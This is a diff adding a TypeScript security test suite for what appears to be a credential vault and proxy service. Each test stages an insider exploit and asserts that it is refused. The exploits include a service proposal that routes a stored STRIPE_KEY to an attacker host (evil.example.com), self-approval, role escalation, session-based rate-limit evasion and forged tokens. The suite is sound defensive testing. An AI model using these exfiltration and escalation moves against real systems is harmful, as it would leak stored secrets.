@@ -1,0 +1,260 @@
+/**
+ * The invariants of docs/security.md, each as the exploit that once broke it, run as an attacker
+ * inside the company would, and refused.
+ */
+import { env, runDurableObjectAlarm, runInDurableObject, SELF } from "cloudflare:test";
+import { describe, expect, it } from "vitest";
+import type { ActorGate } from "../../durable-objects/actor-gate.ts";
+import { gateLookupCount } from "../../workers/auth/actor-gate-client.ts";
+import { d1QueryCount } from "../../workers/db/query-counter.ts";
+import { sha256Hex, TAG_LENGTH } from "../../workers/lib/tokens.ts";
+import { agentGate, BASE, call, createCompany, createUser, createVault, inviteAgent, unique } from "./helpers.ts";
+import { recorded, requestId, upstreamUrl } from "./upstream.ts";
+
+async function grantUser(ownerKey: string, vault: string, email: string, role: string) {
+  expect((await call("POST", `/v1/vaults/${vault}/users`, { token: ownerKey, body: { email, role } })).status).toBe(200);
+}
+
+/** A vault with STRIPE_KEY stored and sent to one service, as an admin set it up. */
+async function stripeVault() {
+  const company = await createCompany();
+  const vault = await createVault(company.ownerKey);
+  await call("POST", "/v1/credentials", { token: company.ownerKey, body: { vault, credentials: { STRIPE_KEY: "sk_live_admins_secret" } } });
+  const created = await call("POST", `/v1/vaults/${vault}/services`, { token: company.ownerKey, body: { name: "stripe", host: "api.stripe.com", auth: { type: "bearer", token: "STRIPE_KEY" } } });
+  expect(created.status).toBe(201);
+  return { company, vault };
+}
+
+/** The exploit: a service proposal that sends the stored STRIPE_KEY to a host of the raiser's choosing. */
+const exfiltration = (host: string) => ({
+  services: [{ action: "set", name: "collector", host, upstream: upstreamUrl(), auth: { type: "bearer", token: "STRIPE_KEY" } }],
+  message: "need this",
+});
+
+describe("no self-approval, no self-promotion", () => {
+  it("an owner agent cannot mint an API key or a person, and so cannot sign in and approve its own proposal", async () => {
+    const company = await createCompany();
+    const vault = await createVault(company.ownerKey);
+    const agent = await inviteAgent(company.ownerKey, undefined, [], "owner");
+    const key = await call("POST", "/v1/api-keys", { token: agent.token, body: { label: "mine" } });
+    expect(key).toMatchObject({ status: 403, body: { error: "forbidden" } });
+    const email = `${unique("me")}@example.com`;
+    const person = await call("POST", "/v1/users", { token: agent.token, body: { email, role: "owner", password: "correct horse battery staple" } });
+    expect(person.status).toBe(403);
+    expect((await call("POST", "/v1/auth/sign-in", { body: { email, password: "correct horse battery staple" } })).status).toBe(401);
+    const raised = await call("POST", "/v1/proposals", { token: agent.token, headers: { "X-Vault": vault }, body: { credentials: [{ key: "NEW_KEY" }] } });
+    expect(raised.status).toBe(201);
+    const decided = await call("POST", `/v1/proposals/${raised.body.id as string}/approve`, { token: agent.token, body: { credentials: { NEW_KEY: "x" } } });
+    expect(decided).toMatchObject({ status: 403, body: { error: "human_required" } });
+    // Nor signing keys, nor registrations.
+    expect((await call("POST", "/v1/company/signing-keys/rotate?force=true", { token: agent.token })).status).toBe(403);
+    expect((await call("GET", "/v1/registrations", { token: agent.token })).status).toBe(403);
+  });
+
+  it("nobody decides a proposal they raised, or one raised by a session they minted", async () => {
+    const { company, vault } = await stripeVault();
+    const member = await createUser(company);
+    await grantUser(company.ownerKey, vault, member.email, "admin");
+    const own = await call("POST", "/v1/proposals", { token: member.token, headers: { "X-Vault": vault }, body: { credentials: [{ key: "MINE" }] } });
+    const refused = await call("POST", `/v1/proposals/${own.body.id as string}/approve`, { token: member.token, body: { credentials: { MINE: "v" } } });
+    expect(refused).toMatchObject({ status: 403, body: { error: "own_proposal" } });
+    expect((await call("POST", `/v1/proposals/${own.body.id as string}/reject`, { token: member.token, body: { reason: "never mind" } })).body.error).toBe("own_proposal");
+
+    const session = await call("POST", "/v1/sessions", { token: member.token, body: { vault } });
+    const viaSession = await call("POST", "/v1/proposals", { token: session.body.token as string, body: { credentials: [{ key: "THROUGH_SESSION" }] } });
+    expect(viaSession.status).toBe(201);
+    const again = await call("POST", `/v1/proposals/${viaSession.body.id as string}/approve`, { token: member.token, body: { credentials: { THROUGH_SESSION: "v" } } });
+    expect(again).toMatchObject({ status: 403, body: { error: "own_proposal" } });
+    // Someone else decides it.
+    const owner = await createUser(company, "owner");
+    expect((await call("POST", `/v1/proposals/${viaSession.body.id as string}/approve`, { token: owner.token, body: { credentials: { THROUGH_SESSION: "v" } } })).status).toBe(200);
+  });
+});
+
+describe("approval needs the power the change needs", () => {
+  it("a member's exfiltration proposal is refused to the member and to other members; a vault admin sees it marked", async () => {
+    const { company, vault } = await stripeVault();
+    const attacker = await createUser(company);
+    const colleague = await createUser(company);
+    const admin = await createUser(company);
+    await grantUser(company.ownerKey, vault, attacker.email, "member");
+    await grantUser(company.ownerKey, vault, colleague.email, "member");
+    await grantUser(company.ownerKey, vault, admin.email, "admin");
+    const host = `${unique("evil")}.example.com`;
+    // Creating the service directly needs admin…
+    const direct = { name: "collector", host, upstream: upstreamUrl(), auth: { type: "bearer", token: "STRIPE_KEY" } };
+    expect((await call("POST", `/v1/vaults/${vault}/services`, { token: attacker.token, body: direct })).status).toBe(403);
+    // …so the attacker proposes it, and cannot approve it, nor can a fellow member.
+    const raised = await call("POST", "/v1/proposals", { token: attacker.token, headers: { "X-Vault": vault }, body: exfiltration(host) });
+    expect(raised.status).toBe(201);
+    const id = raised.body.id as string;
+    expect((await call("POST", `/v1/proposals/${id}/approve`, { token: attacker.token, body: {} })).body.error).toBe("own_proposal");
+    expect((await call("POST", `/v1/proposals/${id}/approve`, { token: colleague.token, body: {} })).body).toMatchObject({ error: "admin_required" });
+
+    // The API view says where the stored credential would go, and where it goes today.
+    const view = await call("GET", `/v1/proposals/${id}`, { token: admin.token });
+    expect(view.body.services).toMatchObject([{ name: "collector", exposes: [{ key: "STRIPE_KEY", sent_to: ["https://api.stripe.com"] }] }]);
+    // The approval page says it plainly, as the vault stands now.
+    const signIn = await call("POST", "/v1/auth/sign-in", { body: { email: admin.email, password: admin.password, mode: "cookie" } });
+    const cookie = (signIn.headers.get("set-cookie") ?? "").split(";")[0] ?? "";
+    const page = await (await SELF.fetch(`${BASE}${new URL(raised.body.approval_url as string).pathname}`, { headers: { Cookie: cookie } })).text();
+    expect(page).toContain("The stored credential <code>STRIPE_KEY</code> would be sent to");
+    expect(page).toContain("today it goes only to <code>https://api.stripe.com</code>");
+    expect(page).not.toContain("sk_live_admins_secret");
+
+    // Nothing reached the attacker's host.
+    const probe = requestId();
+    const agent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "proxy" }]);
+    const tried = await SELF.fetch(`${BASE}/proxy/${host}/r/${probe}/x`, { headers: { Authorization: `Bearer ${agent.token}`, "X-Vault": vault } });
+    expect(tried.status).toBe(403);
+    expect(await recorded(probe)).toEqual([]);
+  });
+
+  it("a credential-only proposal can be decided by a member; a replacement is marked old → new", async () => {
+    const { company, vault } = await stripeVault();
+    const raiser = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "proxy" }]);
+    const member = await createUser(company);
+    await grantUser(company.ownerKey, vault, member.email, "member");
+    const values = await call("POST", "/v1/proposals", { token: raiser.token, headers: { "X-Vault": vault }, body: { credentials: [{ key: "STRIPE_KEY" }, { key: "NEW_ONE" }] } });
+    expect(values.body).toMatchObject({ status: "pending" });
+    const read = await call("GET", `/v1/proposals/${values.body.id as string}`, { token: member.token });
+    expect(read.body.credentials).toMatchObject([{ key: "STRIPE_KEY", replaces_existing: true }, { key: "NEW_ONE" }]);
+    expect((read.body.credentials as { replaces_existing?: boolean }[])[1]?.replaces_existing).toBeUndefined();
+    expect((await call("POST", `/v1/proposals/${values.body.id as string}/approve`, { token: member.token, body: { credentials: { STRIPE_KEY: "sk_new", NEW_ONE: "n" } } })).status).toBe(200);
+
+    const replace = await call("POST", "/v1/proposals", {
+      token: raiser.token,
+      headers: { "X-Vault": vault },
+      body: { services: [{ name: "stripe", host: "api.stripe.com", upstream: "https://mirror.example.net", auth: { type: "bearer", token: "STRIPE_KEY" } }] },
+    });
+    const marked = await call("GET", `/v1/proposals/${replace.body.id as string}`, { token: member.token });
+    expect(marked.body.services).toMatchObject([{ name: "stripe", replaces: { host: "api.stripe.com", auth_type: "bearer" }, exposes: [{ key: "STRIPE_KEY", sent_to: ["https://api.stripe.com"] }] }]);
+  });
+});
+
+describe("roles move only by those above them", () => {
+  it("re-adding an admin agent as proxy is refused to a member and to a fellow admin; the role stays", async () => {
+    const company = await createCompany();
+    const vault = await createVault(company.ownerKey);
+    const adminAgent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "admin" }]);
+    const member = await createUser(company);
+    const fellowAdmin = await createUser(company);
+    await grantUser(company.ownerKey, vault, member.email, "member");
+    await grantUser(company.ownerKey, vault, fellowAdmin.email, "admin");
+    const demote = await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: adminAgent.name, role: "proxy" } });
+    expect(demote).toMatchObject({ status: 403, body: { error: "role_above_granter" } });
+    expect((await call("PATCH", `/v1/vaults/${vault}/agents/${adminAgent.name}`, { token: fellowAdmin.token, body: { role: "proxy" } })).body.error).toBe("role_above_granter");
+    expect((await call("DELETE", `/v1/vaults/${vault}/agents/${adminAgent.name}`, { token: fellowAdmin.token })).body.error).toBe("role_above_granter");
+    const listed = await call("GET", `/v1/vaults/${vault}/agents`, { token: company.ownerKey });
+    expect(listed.body.agents).toMatchObject([{ agent: adminAgent.name, role: "admin" }]);
+    // Nobody grants above their own role; a company owner moves any role.
+    const other = await inviteAgent(company.ownerKey);
+    expect((await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: other.name, role: "admin" } })).body.error).toBe("grant_exceeds_own_role");
+    expect((await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: other.name, role: "member" } })).status).toBe(200);
+    // Re-adding at the same role is not a change.
+    expect((await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: other.name, role: "member" } })).status).toBe(200);
+    expect((await call("PATCH", `/v1/vaults/${vault}/agents/${adminAgent.name}`, { token: company.ownerKey, body: { role: "proxy" } })).status).toBe(200);
+    // The same rule for people's grants.
+    const fellowUser = await call("GET", `/v1/vaults/${vault}/users`, { token: company.ownerKey });
+    const fellowId = (fellowUser.body.users as { user_id: string; email: string }[]).find((u) => u.email === fellowAdmin.email)?.user_id;
+    const admin2 = await createUser(company);
+    await grantUser(company.ownerKey, vault, admin2.email, "admin");
+    expect((await call("PATCH", `/v1/vaults/${vault}/users/${fellowId ?? ""}`, { token: admin2.token, body: { role: "member" } })).body.error).toBe("role_above_granter");
+  });
+});
+
+describe("budgets follow the root principal", () => {
+  it("an agent throttled to 2 requests gets 2 in all, however many sessions it mints; refusals are one counted row per actor", async () => {
+    const company = await createCompany();
+    const vault = await createVault(company.ownerKey);
+    const host = `${unique("api")}.example.com`;
+    await call("POST", `/v1/vaults/${vault}/services`, { token: company.ownerKey, body: { name: "svc", host, upstream: upstreamUrl(), auth: { type: "passthrough" } } });
+    const agent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "member" }]);
+    await call("PATCH", `/v1/agents/${agent.name}`, { token: company.ownerKey, body: { rate_limit: { burst: 2, rate_per_second: 0.01 } } });
+    const sessions = [];
+    for (let i = 0; i < 3; i++) sessions.push((await call("POST", "/v1/sessions", { token: agent.token, body: { vault } })).body.token as string);
+    const tokens = [agent.token, ...sessions, ...sessions, ...sessions];
+    const statuses = [];
+    for (const token of tokens) {
+      const res = await SELF.fetch(`${BASE}/proxy/${host}/r/${requestId()}/x`, { headers: { Authorization: `Bearer ${token}`, "X-Vault": vault } });
+      await res.arrayBuffer();
+      statuses.push(res.status);
+    }
+    expect(statuses.filter((s) => s === 200)).toHaveLength(2);
+    expect(statuses.filter((s) => s === 429)).toHaveLength(tokens.length - 2);
+    expect(await runDurableObjectAlarm(await agentGate(company.id, agent.name))).toBe(true);
+    const logs = await call("GET", `/v1/vaults/${vault}/logs?status=429`, { token: company.ownerKey });
+    const rows = logs.body.entries as { actor_id: string; count: number }[];
+    // One row per refused actor (the agent and each session), counting every refusal.
+    expect(rows.length).toBeLessThanOrEqual(4);
+    expect(rows.reduce((sum, r) => sum + r.count, 0)).toBe(tokens.length - 2);
+  });
+});
+
+describe("revocation is race-free", () => {
+  it("a gate load that started before an invalidation is discarded: the request in flight and the next one are refused", async () => {
+    const company = await createCompany();
+    const agent = await inviteAgent(company.ownerKey);
+    const row = await env.DB.prepare("SELECT id FROM agents WHERE company_id = ? AND name = ?").bind(company.id, agent.name).first<{ id: string }>();
+    const actor = { root: { type: "agent" as const, id: row?.id ?? "" } };
+    const hash = await sha256Hex(agent.token);
+    const stub = await agentGate(company.id, agent.name);
+    const verdict = await runInDurableObject(stub, async (instance) => {
+      const gate = instance as unknown as ActorGate;
+      const realRoot = gate.loaders.root;
+      let release!: () => void;
+      let started!: () => void;
+      const loadStarted = new Promise<void>((resolve) => (started = resolve));
+      const held = new Promise<void>((resolve) => (release = resolve));
+      // The first load reads D1 while the agent is still active, then stalls until released.
+      gate.loaders.root = async (db, key) => {
+        const state = await realRoot(db, key);
+        gate.loaders.root = realRoot;
+        started();
+        await held;
+        return state;
+      };
+      const inFlight = gate.authenticate(actor, hash);
+      await loadStarted;
+      // The agent is disabled and the gate invalidated while that stale read is still in flight.
+      await env.DB.prepare("UPDATE agents SET status = 'disabled' WHERE id = ?").bind(actor.root.id).run();
+      await gate.invalidate();
+      release();
+      return { inFlight: await inFlight, next: await gate.authenticate(actor, hash) };
+    });
+    expect(verdict.inFlight.ok).toBe(false);
+    expect(verdict.next.ok).toBe(false);
+    expect((await call("GET", "/v1/whoami", { token: agent.token })).status).toBe(401);
+  });
+});
+
+describe("forged and unreadable tokens", () => {
+  it("a token whose public id is forged is 401 before any Durable Object or D1; an unreadable one is 401 at /proxy and /discover too", async () => {
+    const company = await createCompany();
+    const vault = await createVault(company.ownerKey);
+    const agent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "proxy" }]);
+    const [kind, publicId = "", ...secret] = agent.token.split("_");
+    const tag = publicId.slice(-TAG_LENGTH);
+    const forgedTag = tag.replace(/^./, (c) => (c === "0" ? "1" : "0"));
+    // Same agent, same secret: only the MAC over the public id is wrong.
+    const forged = `${kind}_${publicId.slice(0, -TAG_LENGTH)}${forgedTag}_${secret.join("_")}`;
+    const before = { d1: d1QueryCount(), gates: gateLookupCount() };
+    for (const path of ["/proxy/api.example.com/x", "/discover", "/v1/whoami"]) {
+      const res = await SELF.fetch(`${BASE}${path}`, { headers: { Authorization: `Bearer ${forged}`, "X-Vault": vault } });
+      expect(res.status, path).toBe(401);
+      expect(res.headers.get("www-authenticate")).toContain("Bearer");
+    }
+    expect({ d1: d1QueryCount(), gates: gateLookupCount() }).toEqual(before);
+    for (const garbage of ["not-a-token", "eva_abc_def", `evs_${"A".repeat(12)}_${"x".repeat(43)}`]) {
+      for (const path of ["/proxy/api.example.com/x", "/discover"]) {
+        const res = await SELF.fetch(`${BASE}${path}`, { headers: { Authorization: `Bearer ${garbage}`, "X-Vault": vault } });
+        expect(res.status, `${garbage} at ${path}`).toBe(401);
+      }
+    }
+    // A genuine token of a kind that cannot proxy is still told so.
+    const person = await createUser(company);
+    const asPerson = await SELF.fetch(`${BASE}/proxy/api.example.com/x`, { headers: { Authorization: `Bearer ${person.token}`, "X-Vault": vault } });
+    expect(asPerson.status).toBe(403);
+    expect(((await asPerson.json()) as { error: string }).error).toBe("agent_token_required");
+  });
+});
